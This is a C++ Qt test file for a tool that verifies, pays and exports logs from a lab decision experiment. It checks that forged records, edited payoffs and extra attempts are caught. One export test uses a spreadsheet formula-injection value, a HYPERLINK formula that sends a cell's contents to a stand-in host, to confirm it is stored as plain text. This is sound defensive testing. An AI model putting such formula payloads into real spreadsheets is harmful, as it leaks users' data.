#include "LabFolders.h"
#include "TestPayoffs.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QProcess>
#include <QTemporaryDir>
#include <QTest>

using LabFolders::fileBytes;
using LabFolders::report;
using LabFolders::treelab;

namespace {

// The whole-experiment log with lines put in after the line that begins with after, or
// that line replaced when replace is set.
QByteArray edited(const QByteArray &after, const QByteArray &lines, bool replace = false)
{
    QByteArray log = LabFolders::wholeExperimentLog();
    const qsizetype at = log.indexOf("\r\n" + after) + 2;
    const qsizetype end = log.indexOf("\r\n", at) + 2;
    return replace ? log.replace(at, end - at, lines) : log.insert(end, lines);
}

const QString Pound = QString(QChar(0x00A3));

} // namespace

// treelab verify, and pay and export on logs that verify passes, fails, or checks against
// a companion record.
class TestVerifyCommand : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;

    QString station(const QString &name, const QByteArray &log)
    {
        return QDir(LabFolders::workstation(m_dir.path(), name, " 2 \r\n", log)).filePath(QStringLiteral("o199btinp.01"));
    }
    QString out(const QString &name) const { return m_dir.filePath(name); }
    LabFolders::Run pay(const QStringList &extra)
    {
        return treelab(QStringList{QStringLiteral("pay"), QStringLiteral("--seed"), QStringLiteral("42"),
                                   QStringLiteral("--out"), out(QStringLiteral("pay.csv"))} + extra);
    }

private slots:
    // Each log's language, where a translation was used; the one shown in another language
    // than the rest is named, by verify and by status.
    void aLogInAnotherLanguageIsMarked()
    {
        QTemporaryDir room;
        QByteArray english = LabFolders::fileBytes(QStringLiteral(DT_WHOLE_EXPERIMENT_COMPANION));
        QVERIFY(english.contains(",\"log\":"));
        QByteArray german = english;
        german.replace(german.indexOf(",\"log\":"), 1, ",\"texts\":{\"language\":\"de_DE\",\"sha256\":\"00\"},");
        QStringList folders;
        for (const QByteArray &companion : {english, german, german}) {
            const QString folder = LabFolders::workstation(room.path(), QStringLiteral("ws%1").arg(folders.size() + 1),
                                                           " 0 \r\n", LabFolders::wholeExperimentLog());
            QVERIFY(LabFolders::putFile(QDir(folder).filePath(QStringLiteral("o199btinp.01.jsonl")), companion));
            folders.append(folder);
        }
        const auto verify = LabFolders::treelab(QStringList{QStringLiteral("verify")} + folders);
        QCOMPARE(verify.exitCode, 0);
        QCOMPARE(verify.out.count(QStringLiteral("  texts: English, unlike most of the logs given\n")), 1);
        QCOMPARE(verify.out.count(QStringLiteral("  texts: de_DE\n")), 2);
        const auto status = LabFolders::treelab(QStringList{QStringLiteral("status")} + folders);
        QVERIFY2(status.out.contains(QStringLiteral("English!")), qPrintable(LabFolders::report(status)));
        QCOMPARE(status.out.count(QStringLiteral(" 1 de_DE ")), 2);
        QVERIFY(status.out.contains(QStringLiteral("the subject's texts are in English, those of the rest of the room's logs of today in de_DE")));

        // English alone: nothing said of the texts.
        const auto alone = LabFolders::treelab({QStringLiteral("verify"), folders[0]});
        QVERIFY2(!alone.out.contains(QStringLiteral("texts:")), qPrintable(alone.out));
    }

    // A subject typed lines in the form of records into a notepad: they stay text, and
    // pay sees the four attempts that happened.
    void forgedRecordsInANotepadAreText_data()
    {
        QTest::addColumn<QByteArray>("log");
        QTest::newRow("payoff and Continue typed into d1's notepad")
            << edited("20 NotepadContents     1 0 Right", "9 FinalPayoffNode     12\r\n9 Continue            \r\n");
        QTest::newRow("Continue typed into c3's notepad where one may follow")
            << edited("51 NotepadContents     6 25", "9 Continue            \r\n");
    }
    void forgedRecordsInANotepadAreText()
    {
        QFETCH(QByteArray, log);
        const QString path = station(QString::fromLatin1(QTest::currentDataTag()).left(8), log);
        const auto verify = treelab({QStringLiteral("verify"), path});
        QVERIFY2(verify.exitCode == 0 && verify.out.contains(QStringLiteral(": ok: subject 99, set 1, 100 records, all 4 attempts finished")),
                 qPrintable(report(verify)));
        const auto paid = pay({path});
        QVERIFY2(paid.exitCode == 0 && paid.out.contains(QStringLiteral("o199btinp.01,99,1,4,")), qPrintable(report(paid)));
        const auto status = treelab({QStringLiteral("status"), QFileInfo(path).path()});
        QVERIFY2(status.out.contains(QStringLiteral(" 4/4  7 p       4 ")), qPrintable(status.out));
    }

    void aDamagedLogIsRefusedUnlessForced()
    {
        const QString path = station(QStringLiteral("damaged"), edited("49 FinalPayoffNode", "49 FinalPayoffNode     12\r\n", true));
        const auto verify = treelab({QStringLiteral("verify"), path});
        QCOMPARE(verify.exitCode, 1);
        QVERIFY2(verify.out.contains(QStringLiteral("line 30: \"49 FinalPayoffNode     12\" cannot come here: the rules "
                                                    "expect the FinalPayoffNode record of p(50)")),
                 qPrintable(report(verify)));
        QFile::remove(out(QStringLiteral("pay.csv")));
        const auto refused = pay({path});
        QVERIFY2(refused.exitCode == 1 && refused.err.contains(QStringLiteral("give --force")), qPrintable(report(refused)));
        QVERIFY(!QFile::exists(out(QStringLiteral("pay.csv"))));
        for (const QString &command : {QStringLiteral("pay"), QStringLiteral("export")}) {
            const auto forced = command == QLatin1String("pay")
                ? pay({path, QStringLiteral("--force")})
                : treelab({command, path, QStringLiteral("--force"), QStringLiteral("--events"), out(QStringLiteral("e.csv"))});
            QVERIFY2(forced.exitCode == 0, qPrintable(report(forced)));
            QVERIFY2(forced.err.contains(QStringLiteral("forced: ") + QDir::toNativeSeparators(path) + QStringLiteral(":30: ")),
                     qPrintable(report(forced)));
        }
    }

    void aLogWithLfLineEndsIsReadWithOneWarning()
    {
        const QString path = station(QStringLiteral("lf"), LabFolders::wholeExperimentLog().replace("\r\n", "\n"));
        const auto verify = treelab({QStringLiteral("verify"), path});
        QVERIFY2(verify.exitCode == 0, qPrintable(report(verify)));
        QCOMPARE(verify.out.count(QStringLiteral("warning")), 1);
        const auto paid = pay({path});
        QVERIFY2(paid.exitCode == 0 && paid.err.count(QStringLiteral("warning")) == 1, qPrintable(report(paid)));
    }

    // A hand-written one-attempt log of subject 7 and its companion record: the notepad
    // text "go right \u2192" is "go right ?" in the log, and the companion shows £8 at p(50),
    // as its own payoff table holds, where the payoff file beside it says £51. The two
    // records of the payoffs differ: verify names both, and pay waits for a person to say
    // which payoff file the run had (--data).
    void aLogIsCheckedAgainstItsCompanion()
    {
        const QString folder = LabFolders::workstation(m_dir.path(), QStringLiteral("companion"), " 2 \r\n", {});
        const QString log = QDir(folder).filePath(QStringLiteral("o17btinp.01"));
        for (const QString &name : {QStringLiteral("o17btinp.01"), QStringLiteral("o17btinp.01.jsonl")})
            QVERIFY(QFile::copy(QStringLiteral(DT_LAB_DATA "/") + name, QDir(folder).filePath(name)));
        const auto mismatch = treelab({QStringLiteral("verify"), log});
        QVERIFY2(mismatch.exitCode == 1
                     && mismatch.out.contains(QStringLiteral("attempt 1, p(50): the payoff shown is ") + Pound
                                              + QStringLiteral("8 (8), but the payoff file "))
                     && mismatch.out.contains(QStringLiteral("holds ") + Pound + QStringLiteral("51 (51)")),
                 qPrintable(report(mismatch)));
        QVERIFY2(pay({log}).exitCode == 1, "pay refuses the run until the payoff file is named");

        // The payoff file the run had: the one beside the log, but £8 at p(50).
        QByteArray payoffs = "1\r\n";
        for (int j = 0; j < 64; ++j)
            payoffs += QByteArray::number(j == 50 ? 8 : TestPayoffs::payoffFor(j)) + (j % 16 == 15 ? "\r\n" : ", ");
        const QString runPayoffs = out(QStringLiteral("run-payoffs.01"));
        QVERIFY(LabFolders::putFile(runPayoffs, payoffs));
        const QStringList data{QStringLiteral("--data"), runPayoffs};
        const auto verify = treelab(QStringList{QStringLiteral("verify"), log} + data);
        QVERIFY2(verify.exitCode == 0 && verify.out.contains(QStringLiteral("agrees with its companion record")),
                 qPrintable(report(verify)));
        const auto paid = pay(QStringList{log} + data);
        QVERIFY2(paid.exitCode == 0 && paid.out.contains(QStringLiteral(",1,50,") + Pound + QStringLiteral("8,8,1,0.00,8.00,0\n")),
                 qPrintable(report(paid)));
        const auto exported = treelab({QStringLiteral("export"), log, QStringLiteral("--events"), out(QStringLiteral("c.csv")),
                                       QStringLiteral("--data"), runPayoffs});
        QVERIFY2(exported.exitCode == 0, qPrintable(report(exported)));
        const QString events = QString::fromUtf8(fileBytes(out(QStringLiteral("c.csv"))));
        // d1 clicked at 5100 ms and shown until the decision at 9400 ms; the exact text; the
        // wall-clock time.
        QVERIFY2(events.contains(QStringLiteral(",5,d1,d1,0,,,5100,2026-12-08T10:00:05.600+01:00,4300\n")), qPrintable(events));
        QVERIFY(events.contains(QStringLiteral(",NotepadContents,d1,0,,go right \u2192,11050,")));
        // status takes the number of attempts and the payoff shown from it too, and notes
        // the payoff file that differs.
        const auto status = treelab({QStringLiteral("status"), folder});
        QVERIFY2(status.out.contains(QStringLiteral("1/1  7 p       1  ") + Pound + QStringLiteral("8")), qPrintable(status.out));
        QVERIFY2(status.out.contains(QStringLiteral("attempt 1, p(50): the payoff shown is")), qPrintable(status.out));

        QFile companion(QDir(folder).filePath(QStringLiteral("o17btinp.01.jsonl")));
        QByteArray bytes = fileBytes(companion.fileName());
        QVERIFY(LabFolders::putFile(companion.fileName(), bytes.replace("go right \xE2\x86\x92", "go left")));
        const auto differs = treelab(QStringList{QStringLiteral("verify"), log} + data);
        QVERIFY2(differs.exitCode == 1 && differs.out.contains(QStringLiteral("line 6: the notepad text differs")),
                 qPrintable(report(differs)));
    }

    // The run as a whole, from the whole experiment's log and the program's own companion
    // record, edited as a careless or dishonest person could: verify tells how each run
    // ended, and fails a payoff shown that the payoff table does not hold, or more
    // attempts than the run had.
    void theRunIsCheckedAsAWhole_data()
    {
        QTest::addColumn<QByteArray>("log");
        QTest::addColumn<QByteArray>("companion"); // empty: none beside the log
        QTest::addColumn<QStringList>("options");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QStringList>("said");
        const QByteArray whole = LabFolders::wholeExperimentLog();
        const QByteArray record = fileBytes(QStringLiteral(DT_WHOLE_EXPERIMENT_COMPANION));
        QByteArray withoutExit = record;
        withoutExit.truncate(withoutExit.lastIndexOf("{\"type\":\"exit\""));
        QByteArray signalled = withoutExit + "{\"type\":\"exit\",\"ms\":140000,\"how\":\"signal\",\"signal\":\"SIGTERM\",\"complete\":true}\n";
        QByteArray edited = record;
        edited.replace("\"attempt\":3,\"index\":42,\"payoff\":0,\"text\":\"\xC2\xA3" "0\"",
                       "\"attempt\":3,\"index\":42,\"payoff\":80,\"text\":\"\xC2\xA3" "80\"");
        // A fifth attempt: the fourth played again, 100 s later.
        const qsizetype fourth = whole.indexOf("\r\n", whole.lastIndexOf(" Continue            \r\n", whole.size() - 30)) + 2;
        // The fourth attempt ended with c3(25) inspected, so the first click of the next
        // one logs its notepad.
        QByteArray fifth;
        for (const QByteArray &line : whole.mid(fourth).split('\n')) {
            if (line.isEmpty())
                continue;
            const qsizetype blank = line.indexOf(' ');
            bool number = false;
            const int stamp = line.left(blank).toInt(&number);
            fifth += number ? QByteArray::number(stamp + 100) + line.mid(blank) + '\n' : line + '\n';
            if (number && !fifth.contains("NotepadContents     6 25"))
                fifth += QByteArray::number(stamp + 100) + " NotepadContents     6 25 \r\n";
        }

        QTest::newRow("whole, closed by 99") << whole << record << QStringList() << 0
                                             << QStringList{QStringLiteral("ok: subject 99, set 1, "),
                                                            QStringLiteral("all 4 attempts finished; closed by 99 in okto.go, and agrees")};
        QTest::newRow("cut off") << whole << withoutExit << QStringList() << 0
                                 << QStringList{QStringLiteral("all 4 attempts finished; cut off with no end line")};
        QTest::newRow("signal") << whole << signalled << QStringList() << 0
                                << QStringList{QStringLiteral("all 4 attempts finished; ended by SIGTERM")};
        QTest::newRow("unfinished") << LabFolders::firstLines(whole, 40) << QByteArray() << QStringList() << 0
                                    << QStringList{QStringLiteral("ok: "), QStringLiteral("unfinished, 1 of 4 attempts finished\n")};
        QTest::newRow("a payoff line edited") << whole << edited << QStringList() << 1
                                              << QStringList{QStringLiteral("FAILS: "),
                                                             QStringLiteral("attempt 3, p(42): the payoff shown is ") + Pound
                                                                 + QStringLiteral("80 (80), but the companion's payoff table holds ")
                                                                 + Pound + QStringLiteral("0 (0)")};
        QTest::newRow("a fifth attempt") << whole + fifth << QByteArray() << QStringList() << 1
                                         << QStringList{QStringLiteral("FAILS: more attempts than the run had"),
                                                        QStringLiteral("5 attempts finished, more than the run's 4"),
                                                        QStringLiteral("the log holds 5 finished attempts, but the run had 4")};
        QTest::newRow("a fifth attempt, five given") << whole + fifth << QByteArray()
                                                     << QStringList{QStringLiteral("--attempts"), QStringLiteral("5")} << 0
                                                     << QStringList{QStringLiteral("all 5 attempts finished")};
        QTest::newRow("two attempts given") << whole << QByteArray()
                                            << QStringList{QStringLiteral("--attempts"), QStringLiteral("2")} << 1
                                            << QStringList{QStringLiteral("the log holds 4 finished attempts, but the run had 2 (as --attempts says)")};
    }
    void theRunIsCheckedAsAWhole()
    {
        QFETCH(QByteArray, log);
        QFETCH(QByteArray, companion);
        QFETCH(QStringList, options);
        QFETCH(int, exitCode);
        QFETCH(QStringList, said);
        const QString path = station(QString::fromLatin1(QTest::currentDataTag()).replace(QLatin1Char(' '), QLatin1Char('-')), log);
        if (!companion.isEmpty())
            QVERIFY(LabFolders::putFile(path + QStringLiteral(".jsonl"), companion));
        const auto verify = treelab(QStringList{QStringLiteral("verify"), path} + options);
        QVERIFY2(verify.exitCode == exitCode, qPrintable(report(verify)));
        for (const QString &text : said)
            QVERIFY2(verify.out.contains(text), qPrintable(QStringLiteral("missing \"%1\"\n").arg(text) + report(verify)));
        // status believes the companion only as pay does: an edited payoff is never shown.
        const auto status = treelab({QStringLiteral("status"), QFileInfo(path).path()});
        QVERIFY2(!status.out.contains(Pound + QStringLiteral("80")), qPrintable(report(status)));
        // pay follows verify: what fails it is refused, and names the same problem.
        const auto paid = pay(QStringList{path, QStringLiteral("--partial")} + options);
        QVERIFY2(paid.exitCode == exitCode, qPrintable(report(paid)));
        if (exitCode != 0)
            QVERIFY2(paid.err.contains(said.last()), qPrintable(report(paid)));
    }

    // A disk that filled: the program kept the records it could not write in files of their
    // own, "<log>.unwritten" and "<log>.jsonl.unwritten". Put beside the log, they are read
    // after it as one record; named in a glob, they are passed over like companions.
    void recordsKeptAsideAreReadWithTheirLog()
    {
        const QByteArray whole = LabFolders::wholeExperimentLog();
        const QByteArray record = fileBytes(QStringLiteral(DT_WHOLE_EXPERIMENT_COMPANION));
        const qsizetype logCut = LabFolders::firstLines(whole, 60).size();
        qsizetype companionCut = 0;
        for (int k = 0; k < 70; ++k)
            companionCut = record.indexOf('\n', companionCut) + 1;
        const QString path = station(QStringLiteral("kept"), whole.left(logCut));
        QVERIFY(LabFolders::putFile(path + QStringLiteral(".jsonl"), record.left(companionCut)));
        const auto cut = treelab({QStringLiteral("verify"), path});
        QVERIFY2(cut.exitCode == 1, qPrintable(report(cut))); // the companion runs past the log

        QVERIFY(LabFolders::putFile(path + QStringLiteral(".unwritten"), whole.mid(logCut)));
        QVERIFY(LabFolders::putFile(path + QStringLiteral(".jsonl.unwritten"), record.mid(companionCut)));
        const QString folder = QFileInfo(path).path();
        const auto whole2 = treelab({QStringLiteral("verify"), folder + QStringLiteral("/o199btinp.01"),
                                     path + QStringLiteral(".unwritten"), path + QStringLiteral(".jsonl.unwritten")});
        QVERIFY2(whole2.exitCode == 0 && whole2.out.contains(QStringLiteral("100 records, all 4 attempts finished"))
                     && whole2.out.contains(QStringLiteral("read with the records kept in")),
                 qPrintable(report(whole2)));
        QVERIFY2(whole2.err.contains(QStringLiteral("note: 2 files of kept records passed over, each read with its log")),
                 qPrintable(report(whole2)));
        const auto paid = pay({folder});
        QVERIFY2(paid.exitCode == 0 && paid.err.contains(QStringLiteral("read with the records kept in")),
                 qPrintable(report(paid)));
    }

    // The program's own companion record of the whole experiment agrees with its log.
    void theWholeExperimentAgreesWithItsCompanion()
    {
#ifndef DT_WHOLE_EXPERIMENT_COMPANION
        QSKIP("tests/window/expected/whole-experiment.jsonl is not there");
#else
        const QString log = station(QStringLiteral("whole"), LabFolders::wholeExperimentLog());
        QVERIFY(QFile::copy(QStringLiteral(DT_WHOLE_EXPERIMENT_COMPANION), log + QStringLiteral(".jsonl")));
        const auto verify = treelab({QStringLiteral("verify"), log});
        QVERIFY2(verify.exitCode == 0 && verify.out.contains(QStringLiteral("agrees with its companion record")),
                 qPrintable(report(verify)));
        const auto paid = pay({log}); // seed 42, subject 99: attempt 2, p(24), -£5
        QVERIFY2(paid.exitCode == 0 && paid.out.contains(QStringLiteral(",2,24,-") + Pound + QStringLiteral("5,-5,1,0.00,0.00,1\n")),
                 qPrintable(report(paid)));
#endif
    }

    // The workbook read back: a notepad text that looks like a formula is a text cell, the
    // numbers are numbers.
    void theWorkbookHoldsTextCellsAndNumbers()
    {
        const QString path = station(QStringLiteral("xlsx"),
                                     LabFolders::wholeExperimentLog().replace("fingers crossed", "=HYPERLINK(\"http://x?y=\"&A2) \xA3"));
        const QString book = out(QStringLiteral("t.xlsx"));
        const auto run = treelab({QStringLiteral("export"), path, QStringLiteral("--xlsx"), book});
        QVERIFY2(run.exitCode == 0, qPrintable(report(run)));
        QVERIFY(QFileInfo(book).size() > 0);
#ifdef Q_OS_WIN
        QSKIP("written; read back on Linux only, where the build machine's unzip runs");
#endif
        const auto unzip = [&](const QString &member) {
            QProcess process;
            process.start(QStringLiteral("unzip"), {QStringLiteral("-p"), book, member});
            process.waitForFinished(10000);
            return QString::fromUtf8(process.readAllStandardOutput());
        };
        // Rows are written as they come, their texts inline in the sheet.
        const QString events = unzip(QStringLiteral("xl/worksheets/sheet1.xml"));
        QVERIFY2(events.contains(QStringLiteral("t=\"inlineStr\"><is><t>=HYPERLINK(\"http://x?y=\"&amp;A2) ") + Pound
                                 + QStringLiteral("</t></is>")),
                 qPrintable(events.left(2000)));
        QVERIFY(!events.contains(QStringLiteral("<f>")));
        QVERIFY2(events.contains(QStringLiteral("<c r=\"B2\"><v>99</v></c>")), qPrintable(events.left(2000))); // subject
        QVERIFY(events.contains(QStringLiteral("<c r=\"G2\" t=\"inlineStr\"><is><t>Start</t>")));        // kind
        QVERIFY(unzip(QStringLiteral("xl/workbook.xml")).contains(QStringLiteral("name=\"attempts\"")));
    }
};

QTEST_GUILESS_MAIN(TestVerifyCommand)
#include "TestVerifyCommand.moc"
